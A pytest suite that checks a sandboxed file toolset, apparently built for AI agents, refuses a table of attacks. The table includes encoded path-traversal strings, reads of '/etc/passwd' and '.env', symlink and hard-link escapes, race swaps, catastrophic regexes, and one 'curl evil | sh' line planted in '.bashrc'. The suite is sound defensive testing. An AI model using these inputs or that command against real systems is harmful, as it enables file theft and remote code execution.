"""The file-tool attack table: every case gets a clear error, reads and writes nothing outside the workspace,
and loses nothing inside it.

Each case runs through the Executor, so what is checked is what a model reads (the error envelope). Around
every case: a sentinel file outside the workspace holds a secret string that must never appear in any tool
output, and whose bytes and mtime must not change; the folder outside gets no new entry; every regular file
inside keeps its bytes, and no temporary file is left behind.
"""
from __future__ import annotations

import json
import os
import socket
import stat
from pathlib import Path

import pytest

from mini_framework import Executor, FileToolset
from mini_framework.builtin.files import editing
from mini_framework.replies import ToolCall

SECRET = "TOP-SECRET-7f3a91"


@pytest.fixture
def world(tmp_path):
    """(workspace, outside folder, sentinel) with some ordinary files inside."""
    outside, ws = tmp_path / "outside", tmp_path / "ws"
    outside.mkdir()
    ws.mkdir()
    sentinel = outside / "secret.txt"
    sentinel.write_text(f"{SECRET}\n")
    os.utime(sentinel, ns=(1_000_000_000_000_000_000, 1_000_000_000_000_000_000))
    (ws / "notes.txt").write_text("tea\ncoffee\n")
    (ws / "docs").mkdir()
    (ws / "docs" / "policy.md").write_text("Refunds within 30 days.\n")
    (ws / "café.txt").write_text("NFC name\n")
    (ws / ".env").write_text(f"API_KEY={SECRET}\n")
    (ws / "docs" / ".secret").mkdir()
    (ws / "docs" / ".secret" / "key.txt").write_text(SECRET)
    return ws, outside, sentinel


def snapshot(ws: Path) -> dict[str, bytes]:
    """Every regular file inside (links not followed), with its bytes."""
    found = {}
    for folder, _, names in os.walk(ws):
        for name in names:
            path = Path(folder, name)
            if stat.S_ISREG(path.lstat().st_mode):
                found[str(path.relative_to(ws))] = path.read_bytes()
    return found


def call(files: FileToolset, name: str, **arguments):
    """One call through the executor: (ok, what the model reads)."""
    [result] = Executor(files.tools, timeout=60).run_sync([ToolCall("c1", name, json.dumps(arguments))])
    return result.ok, result.content


# ----------------------------------------------------------------------------- setups: what a case needs first

def link_out(ws, outside, sentinel, files):
    (ws / "link_out.txt").symlink_to(sentinel)


def link_dir_out(ws, outside, sentinel, files):
    (ws / "dir_out").symlink_to(outside, target_is_directory=True)


def link_in(ws, outside, sentinel, files):
    (ws / "link_in.txt").symlink_to(ws / "notes.txt")


def hard_link_out(ws, outside, sentinel, files):
    os.link(sentinel, ws / "hard.txt")


def swap_file_for_link(ws, outside, sentinel, files):
    """Read the file, then replace it with a link to the sentinel (a swap between read and write)."""
    assert call(files, "read_file", path="notes.txt")[0]
    (ws / "notes.txt").rename(ws / "notes.bak")
    (ws / "notes.txt").symlink_to(sentinel)


def swap_folder_for_link(ws, outside, sentinel, files):
    """Read docs/policy.md, then replace the folder docs with a link to the folder outside."""
    assert call(files, "read_file", path="docs/policy.md")[0]
    (ws / "docs").rename(ws / "docs_real")
    (ws / "docs").symlink_to(outside, target_is_directory=True)
    (outside / "policy.md").write_text(f"{SECRET}\n")  # the same name, outside


def changed_after_read(ws, outside, sentinel, files):
    assert call(files, "read_file", path="notes.txt")[0]
    (ws / "notes.txt").write_text("tea\ncoffee\nsomeone else's line\n")


def read_it(path):
    def setup(ws, outside, sentinel, files):
        assert call(files, "read_file", path=path)[0]
    return setup


def binary(ws, outside, sentinel, files):
    (ws / "image.png").write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR")


def latin1(ws, outside, sentinel, files):
    (ws / "latin1.txt").write_bytes("café crème".encode("latin-1"))


def huge(ws, outside, sentinel, files):
    (ws / "huge.txt").write_text("x" * 20_001)


def fifo(ws, outside, sentinel, files):
    os.mkfifo(ws / "fifo")


def unix_socket(ws, outside, sentinel, files):
    server = socket.socket(socket.AF_UNIX)
    server.bind(str(ws / "sock"))
    files._keep = server  # closed with the test


def slow_lines(ws, outside, sentinel, files):
    (ws / "slow.txt").write_text(("a" * 40 + "!\n") * 50)


def slow_lines_read(ws, outside, sentinel, files):
    slow_lines(ws, outside, sentinel, files)
    assert call(files, "read_file", path="slow.txt")[0]


def nfd_twin(ws, outside, sentinel, files):
    pass  # café.txt (NFC) exists; the attack names it in NFD


def file_md(ws, outside, sentinel, files):
    (ws / "docs" / "file.md").write_text("the real one\n")


def nothing(ws, outside, sentinel, files):
    pass


# ----------------------------------------------------------------------------- the table

# (id, setup, tool, arguments, words the error must contain)
CASES = [
    # traversal, in every spelling
    ("dotdot", nothing, "read_file", {"path": "../outside/secret.txt"}, "'..' is not allowed"),
    ("dotdot-deep", nothing, "read_file", {"path": "docs/../../outside/secret.txt"}, "'..' is not allowed"),
    ("dotdot-backslash", nothing, "read_file", {"path": "..\\outside\\secret.txt"}, "'..' is not allowed"),
    ("dotdot-mixed", nothing, "read_file", {"path": "docs\\..//..\\outside/secret.txt"}, "'..' is not allowed"),
    ("dotdot-url", nothing, "read_file", {"path": "%2e%2e/outside/secret.txt"}, "URL-decoded"),
    ("dotdot-url-upper", nothing, "read_file", {"path": "%2E%2E%2Foutside%2Fsecret.txt"}, "'..' is not allowed"),
    ("dotdot-url-twice", nothing, "read_file", {"path": "%252e%252e/outside/secret.txt"}, "'..' is not allowed"),
    ("dotdot-url-slash", nothing, "read_file", {"path": "..%2foutside%2fsecret.txt"}, "'..' is not allowed"),
    ("dotdot-fullwidth", nothing, "read_file", {"path": "．．/outside/secret.txt"}, "normalised"),
    ("dotdot-leader", nothing, "read_file", {"path": "\u2025/outside/secret.txt"}, "'..' is not allowed"),
    ("dotdot-fullwidth-solidus", nothing, "read_file", {"path": "．．／outside／secret.txt"}, "'..' is not allowed"),
    ("absolute", nothing, "read_file", {"path": "/etc/passwd"}, "absolute path"),
    ("absolute-sentinel", nothing, "read_file", {"path": "SENTINEL"}, "absolute path"),
    ("absolute-inside-climbing", nothing, "read_file", {"path": "WS/../outside/secret.txt"}, "'..' is not allowed"),
    ("absolute-prefix-trick", nothing, "read_file", {"path": "WS_evil/secret.txt"}, "absolute path"),
    ("absolute-backslash", nothing, "read_file", {"path": "\\\\server\\share\\secret.txt"}, "absolute path"),
    ("home", nothing, "read_file", {"path": "~/secret.txt"}, "home folder"),
    ("home-fullwidth", nothing, "read_file", {"path": "～/secret.txt"}, "home folder"),
    ("drive", nothing, "read_file", {"path": "C:\\Windows\\win.ini"}, "drive letter"),
    ("drive-relative", nothing, "read_file", {"path": "C:secret.txt"}, "drive letter"),
    ("windows-stream", nothing, "read_file", {"path": "notes.txt:$DATA"}, "':'"),
    ("nul-byte", nothing, "read_file", {"path": "notes.txt\u0000../../outside/secret.txt"}, "control or invisible"),
    ("nul-url", nothing, "read_file", {"path": "notes.txt%00.md"}, "control or invisible"),
    ("device-name", nothing, "read_file", {"path": "docs/NUL.txt"}, "Windows device name"),
    ("trailing-dot", nothing, "read_file", {"path": "notes.txt."}, "ending in a dot"),
    ("too-long", nothing, "read_file", {"path": "a/" * 600 + "x.txt"}, "longer than"),
    ("empty", nothing, "read_file", {"path": "  "}, "relative to the workspace"),
    ("workspace-itself", nothing, "read_file", {"path": "./"}, "workspace folder itself"),
    ("grep-glob-out", nothing, "grep", {"pattern": "SECRET", "path_pattern": "../outside/*"}, "'..' is not allowed"),
    ("grep-glob-absolute", nothing, "grep", {"pattern": "SECRET", "path_pattern": "/**/*.txt"}, "absolute path"),
    ("write-out", nothing, "echo_into", {"path": "../outside/secret.txt", "content": "pwned"}, "'..' is not allowed"),
    ("sed-out", nothing, "sed", {"path": "../outside/secret.txt", "pattern": "S", "replacement": "x",
                                 "start_line": 1, "end_line": 1}, "'..' is not allowed"),
    ("create-out", nothing, "echo_into", {"path": "%2e%2e/outside/new.txt", "content": "x"}, "'..' is not allowed"),
    # symbolic links, out and in
    ("symlink-out", link_out, "read_file", {"path": "link_out.txt"}, "symbolic link"),
    ("symlink-dir-out", link_dir_out, "read_file", {"path": "dir_out/secret.txt"}, "symbolic link"),
    ("symlink-in", link_in, "read_file", {"path": "link_in.txt"}, "symbolic link"),
    ("write-through-symlink", link_out, "echo_into", {"path": "link_out.txt", "content": "pwned"}, "read this file"),
    ("create-in-linked-dir", link_dir_out, "echo_into", {"path": "dir_out/new.txt", "content": "x"},
     "symbolic link"),
    ("swap-file-for-link", swap_file_for_link, "echo_into", {"path": "notes.txt", "content": "pwned"},
     "file has been changed"),
    ("swap-file-for-link-sed", swap_file_for_link, "sed", {"path": "notes.txt", "pattern": "S", "replacement": "x",
                                                           "start_line": 1, "end_line": 1}, "file has been changed"),
    ("swap-folder-for-link", swap_folder_for_link, "echo_into", {"path": "docs/policy.md", "content": "pwned"},
     "symbolic link"),
    # hard links
    ("hard-link-out", hard_link_out, "read_file", {"path": "hard.txt"}, "more than one hard link"),
    ("hard-link-write", hard_link_out, "echo_into", {"path": "hard.txt", "content": "pwned"}, "read this file"),
    # hidden files and folders
    ("hidden-file", nothing, "read_file", {"path": ".env"}, "hidden files and folders"),
    ("hidden-folder", nothing, "read_file", {"path": "docs/.secret/key.txt"}, "hidden files and folders"),
    ("hidden-url", nothing, "read_file", {"path": "%2eenv"}, "hidden files and folders"),
    ("hidden-fullwidth", nothing, "read_file", {"path": "．env"}, "hidden files and folders"),
    ("hidden-glob", nothing, "grep", {"pattern": "SECRET", "path_pattern": ".*"}, "hidden files and folders"),
    ("hidden-create", nothing, "echo_into", {"path": ".bashrc", "content": "curl evil | sh"},
     "hidden files and folders"),
    # stale writes
    ("no-read-first", nothing, "echo_into", {"path": "notes.txt", "content": "lost?"}, "read this file"),
    ("sed-no-read-first", nothing, "sed", {"path": "notes.txt", "pattern": "tea", "replacement": "x",
                                           "start_line": 1, "end_line": 2}, "read this file"),
    ("changed-after-read", changed_after_read, "echo_into", {"path": "notes.txt", "content": "lost?"},
     "file has been changed"),
    ("changed-after-read-sed", changed_after_read, "sed", {"path": "notes.txt", "pattern": "tea", "replacement": "x",
                                                           "start_line": 1, "end_line": 1}, "file has been changed"),
    # binary, huge, devices, FIFOs, sockets, folders
    ("binary", binary, "read_file", {"path": "image.png"}, "binary file"),
    ("not-utf8", latin1, "read_file", {"path": "latin1.txt"}, "not UTF-8"),
    ("huge", huge, "read_file", {"path": "huge.txt"}, "over this toolset's limit"),
    ("huge-write", nothing, "echo_into", {"path": "big.txt", "content": "x" * 20_001}, "over this toolset's limit"),
    ("nul-write", nothing, "echo_into", {"path": "new.txt", "content": "a\u0000b"}, "NUL character"),
    ("nul-by-sed", read_it("notes.txt"), "sed", {"path": "notes.txt", "pattern": "tea", "replacement": "\u0000",
                                                  "start_line": 1, "end_line": 1}, "NUL character"),
    ("huge-by-sed", read_it("notes.txt"), "sed", {"path": "notes.txt", "pattern": "tea", "replacement": "t" * 20_001,
                                                   "start_line": 1, "end_line": 1}, "over this toolset's limit"),
    ("fifo", fifo, "read_file", {"path": "fifo"}, "not a regular file"),
    ("socket", unix_socket, "read_file", {"path": "sock"}, "not a regular file"),
    ("folder", nothing, "read_file", {"path": "docs"}, "it is a folder"),
    # pathological and invalid regular expressions
    ("regex-catastrophic-grep", slow_lines, "grep", {"pattern": "(a+)+$", "path_pattern": "*.txt"}, "was stopped"),
    ("regex-catastrophic-sed", slow_lines_read, "sed", {"path": "slow.txt", "pattern": "(a|aa)+$",
                                                        "replacement": "b", "start_line": 1, "end_line": 50},
     "was stopped"),
    ("regex-invalid", nothing, "grep", {"pattern": "(unclosed", "path_pattern": "*"}, "invalid regular expression"),
    ("regex-invalid-group", nothing, "grep", {"pattern": "(?P<x", "path_pattern": "*"}, "invalid regular expression"),
    ("regex-bad-replacement", read_it("notes.txt"), "sed", {"path": "notes.txt", "pattern": "tea",
                                                             "replacement": "\\9", "start_line": 1, "end_line": 2},
     "invalid replacement"),
    # Unicode look-alikes
    ("zero-width", nothing, "read_file", {"path": "not\u200bes.txt"}, "control or invisible"),
    ("bidi-override", nothing, "read_file", {"path": "notes\u202etxt.exe"}, "control or invisible"),
    ("nbsp", nothing, "read_file", {"path": "notes\u00a0.txt"}, "control or invisible"),
    ("nfd-twin", nfd_twin, "read_file", {"path": "cafe\u0301.txt"}, "NFC"),
    ("fullwidth-twin-create", nothing, "echo_into", {"path": "ｎotes.txt", "content": "spoof"}, "looks the same"),
    ("case-twin-create", nothing, "echo_into", {"path": "NOTES.txt", "content": "spoof"}, "looks the same"),
    ("ligature-twin-create", file_md, "echo_into", {"path": "docs/\ufb01le.md", "content": "spoof"}, "looks the same"),
    ("division-slash", nothing, "read_file", {"path": "docs\u2215..\u2215..\u2215outside\u2215secret.txt"},
     "no such file"),
]


@pytest.mark.parametrize("case", CASES, ids=[c[0] for c in CASES])
def test_each_attack_is_refused_and_touches_nothing(world, case):
    ws, outside, sentinel = world
    name, setup, tool_name, arguments, expected = case
    # a catastrophic pattern runs until its worker is killed: a short limit is enough to see it stopped
    files = FileToolset(ws, max_bytes=20_000, grep_timeout=0.25 if "catastrophic" in name else 1.0)
    arguments = {k: (str(sentinel) if v == "SENTINEL" else v.replace("WS", str(ws), 1) if isinstance(v, str) and
                     v.startswith("WS") else v) for k, v in arguments.items()}
    setup(ws, outside, sentinel, files)
    before, outside_before = snapshot(ws), sorted(os.listdir(outside))
    sentinel_before = (sentinel.read_bytes(), sentinel.stat().st_mtime_ns)
    ok, content = call(files, tool_name, **arguments)
    assert not ok, content
    error = json.loads(content)["error"]
    assert expected in error, error
    assert SECRET not in content and str(ws) not in content and str(outside) not in content
    assert "Traceback" not in content and len(error) < 600
    assert (sentinel.read_bytes(), sentinel.stat().st_mtime_ns) == sentinel_before
    assert sorted(os.listdir(outside)) == outside_before
    assert snapshot(ws) == before  # nothing lost, nothing half-written, no temporary file left
    if hasattr(files, "_keep"):
        files._keep.close()


def test_the_table_is_big_enough():
    assert len(CASES) >= 30
    assert {c[2] for c in CASES} == {"read_file", "grep", "sed", "echo_into"}


def test_grep_never_shows_what_a_link_a_hard_link_or_a_hidden_file_holds(world):
    ws, outside, sentinel = world
    (ws / "link_out.txt").symlink_to(sentinel)
    (ws / "dir_out").symlink_to(outside, target_is_directory=True)
    os.link(sentinel, ws / "hard.txt")
    files = FileToolset(ws)
    for glob in ("*", "**", "**/*.txt", "dir_out/*", "*.txt"):
        ok, content = call(files, "grep", pattern="SECRET|API_KEY", path_pattern=glob)
        assert ok and SECRET not in content and ("No line matches" in content or "No file" in content), content
    ok, content = call(files, "grep", pattern="SECRET", path_pattern="*.txt")
    assert "2 matching file(s) not searched" in content  # the link and the hard link, said so


def test_a_link_swapped_in_after_the_last_check_is_replaced_not_followed(world, monkeypatch):
    """The race at its narrowest, made deterministic: the file becomes a link to the sentinel after the
    temporary file is written and before the rename. The last check (lstat, same inode) refuses it; and
    even without that check the rename would replace the link, never write through it."""
    ws, outside, sentinel = world
    files = FileToolset(ws)
    assert call(files, "read_file", path="notes.txt")[0]
    real_fsync = os.fsync

    def swap_then_fsync(fd):
        real_fsync(fd)
        if not (ws / "notes.bak").exists():
            (ws / "notes.txt").rename(ws / "notes.bak")
            (ws / "notes.txt").symlink_to(sentinel)

    monkeypatch.setattr(editing.os, "fsync", swap_then_fsync)
    ok, content = call(files, "echo_into", path="notes.txt", content="pwned")
    assert not ok and "file has been changed" in content
    assert sentinel.read_text() == f"{SECRET}\n" and os.readlink(ws / "notes.txt") == str(sentinel)
    assert not [n for n in os.listdir(ws) if n.startswith(".mf-")]

    (ws / "notes.txt").unlink()
    (ws / "notes.bak").rename(ws / "notes.txt")
    files = FileToolset(ws)
    assert call(files, "read_file", path="notes.txt")[0]

    def put_without_the_last_check(folder, temp, name, old):
        os.replace(folder.name(temp), folder.name(name), src_dir_fd=folder.fd, dst_dir_fd=folder.fd)

    monkeypatch.setattr(editing, "_put", put_without_the_last_check)
    ok, content = call(files, "echo_into", path="notes.txt", content="written")
    assert ok, content
    assert sentinel.read_text() == f"{SECRET}\n" and (ws / "notes.txt").read_text() == "written"
    assert not (ws / "notes.txt").is_symlink()


def test_device_files_are_refused_without_reading_them():
    files = FileToolset("/dev")
    for name in ("zero", "null", "urandom", "stdin", "fd/0"):
        if not os.path.lexists(f"/dev/{name}"):
            continue
        ok, content = call(files, "read_file", path=name)
        assert not ok and any(w in content for w in ("not a regular file", "symbolic link")), content


@pytest.mark.parametrize("case", [c for c in CASES if c[0] in {
    "symlink-out", "symlink-dir-out", "swap-file-for-link", "swap-folder-for-link", "hard-link-out", "fifo",
    "changed-after-read", "create-in-linked-dir", "hidden-folder"}], ids=lambda c: c[0])
def test_the_weaker_walk_windows_gets_refuses_the_same(world, case, monkeypatch):
    """Where there is no O_NOFOLLOW or dir_fd (Windows), each component is lstat-ed and the file is used by
    its full path: the same cases are refused (the race window is what it does not close)."""
    from mini_framework.builtin.files import paths

    monkeypatch.setattr(paths, "POSIX", False)
    test_each_attack_is_refused_and_touches_nothing(world, case)


def test_what_the_file_system_refuses_is_said_without_the_path(world, monkeypatch):
    from mini_framework.builtin.files import paths

    ws, outside, sentinel = world
    files = FileToolset(ws)

    def refused(*args, **kwargs):
        raise PermissionError(13, "Permission denied", str(sentinel))

    monkeypatch.setattr(paths.os, "open", refused)
    ok, content = call(files, "read_file", path="notes.txt")
    assert not ok and "the file system refused: Permission denied" in content and str(outside) not in content
